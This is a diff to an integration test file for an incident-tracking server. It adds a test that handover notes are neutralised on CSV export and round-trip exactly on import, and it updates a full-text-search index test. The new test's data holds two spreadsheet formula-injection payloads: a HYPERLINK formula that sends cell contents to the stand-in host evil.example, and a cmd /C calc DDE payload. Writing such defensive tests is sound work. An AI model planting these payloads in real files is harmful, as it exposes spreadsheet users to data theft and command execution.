@@ -25,7 +25,7 @@ from server.config import ServerSettings
 from server.ingest.incidents import apply_fault_incidents
 from server.main import create_app
 from server.models import Alert, DeviceCreate
-from server.models.incident import RESOLUTION_NOTE_MAX
+from server.models.incident import HANDOVER_NOTE_MAX, RESOLUTION_NOTE_MAX
 from tests.fixtures.api_auth import Auth, make_auth
 
 pytestmark = pytest.mark.integration
@@ -255,6 +255,58 @@ def test_notes_go_out_neutralized_and_come_back_exactly(client: TestClient, auth
     assert stored["N-3"] == notes[3]
 
 
+def test_handover_notes_go_out_neutralized_and_come_back_exactly(
+    client: TestClient, auth: Auth
+) -> None:
+    notes = [
+        '=HYPERLINK("http://evil.example/?x="&A1,"logs")',
+        "+SUM(1+1)*cmd|' /C calc'!A0",
+        "Fuser replaced, still SC-541;\nneeds the board",
+        "x" * HANDOVER_NOTE_MAX,
+    ]
+    for number, note in enumerate(notes):
+        body = {"device_id": "mfp-a", "external_id": f"E-{number}", "opened_at": iso(T0)}
+        created = client.post("/api/v1/incidents", json=body, headers=auth("operator"))
+        assert created.status_code == 201, created.text
+        escalated = client.post(
+            f"/api/v1/incidents/{created.json()['id']}/escalate",
+            json={"tier": 2, "note": note},
+            headers=auth("operator"),
+        )
+        assert escalated.status_code == 200, escalated.text
+    exported = client.get("/api/v1/incidents/export", headers=auth("manager"))
+    assert exported.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(exported.text, newline="")))
+    cells = {row["external_id"]: row["handover_note"] for row in rows}
+    assert cells["E-0"].startswith("'=")
+    assert cells["E-1"].startswith("'+")
+    changed = exported.text.replace("needs the board", "needs the board now")
+    imported = client.post(
+        "/api/v1/incidents/import",
+        content=changed.encode(),
+        headers={**auth("manager"), "Content-Type": "text/csv"},
+    )
+    assert imported.status_code == 200, imported.text
+    assert imported.json()["updated"] == 1
+    stored = {
+        item["external_id"]: item["handover_note"]
+        for item in client.get("/api/v1/incidents", headers=auth("operator")).json()["items"]
+    }
+    assert stored == {
+        "E-0": notes[0], "E-1": notes[1], "E-2": notes[2] + " now", "E-3": notes[3],
+    }  # fmt: skip
+    too_long = "device_id,opened_at,handover_note\nmfp-a,2026-03-02T09:00:00Z," + "x" * (
+        HANDOVER_NOTE_MAX + 1
+    )
+    refused = client.post(
+        "/api/v1/incidents/import",
+        content=too_long.encode(),
+        headers={**auth("manager"), "Content-Type": "text/csv"},
+    )
+    assert refused.status_code == 422, refused.text
+    assert "handover_note" in refused.text
+
+
 def _closed(
     client: TestClient,
     auth: Auth,
@@ -426,11 +478,19 @@ def test_postgresql_search_uses_the_gin_indexes(postgres_url: str) -> None:
     from sqlmodel import Session as DbSession
 
     from server.db import create_schema, make_engine
-    from server.incidents.knowledge import ARTICLE_DOCUMENT, NOTE_DOCUMENT, search
+    from server.incidents.knowledge import (
+        ARTICLE_DOCUMENT,
+        ARTICLE_VECTOR_COLUMN,
+        NOTE_DOCUMENT,
+        NOTE_VECTOR_COLUMN,
+        search,
+    )
 
-    migration = Path(__file__).parents[2] / "server/migrations/versions/0011_resolution.py"
-    assert NOTE_DOCUMENT in migration.read_text()
-    assert ARTICLE_DOCUMENT in migration.read_text()
+    migration = (
+        Path(__file__).parents[2] / "server/migrations/versions/0020_note_search.py"
+    ).read_text()
+    assert NOTE_DOCUMENT in migration
+    assert ARTICLE_DOCUMENT in migration
 
     engine = make_engine(postgres_url)
     try:
@@ -438,13 +498,8 @@ def test_postgresql_search_uses_the_gin_indexes(postgres_url: str) -> None:
         with DbSession(engine) as db:
             db.execute(sa.text("SET enable_seqscan = off"))
             for table, document, index, where in (
-                (
-                    "incident",
-                    NOTE_DOCUMENT,
-                    "ix_incident_note_search",
-                    "resolution_note IS NOT NULL AND",
-                ),
-                ("knowledge_article", ARTICLE_DOCUMENT, "ix_knowledge_article_search", ""),
+                ("incident", NOTE_VECTOR_COLUMN, "ix_incident_note_vector", ""),
+                ("knowledge_article", ARTICLE_VECTOR_COLUMN, "ix_knowledge_article_vector", ""),
             ):
                 explain = (
                     f"EXPLAIN SELECT id FROM {table}, websearch_to_tsquery('simple', 'fuser') "  # noqa: S608  (fixed texts)
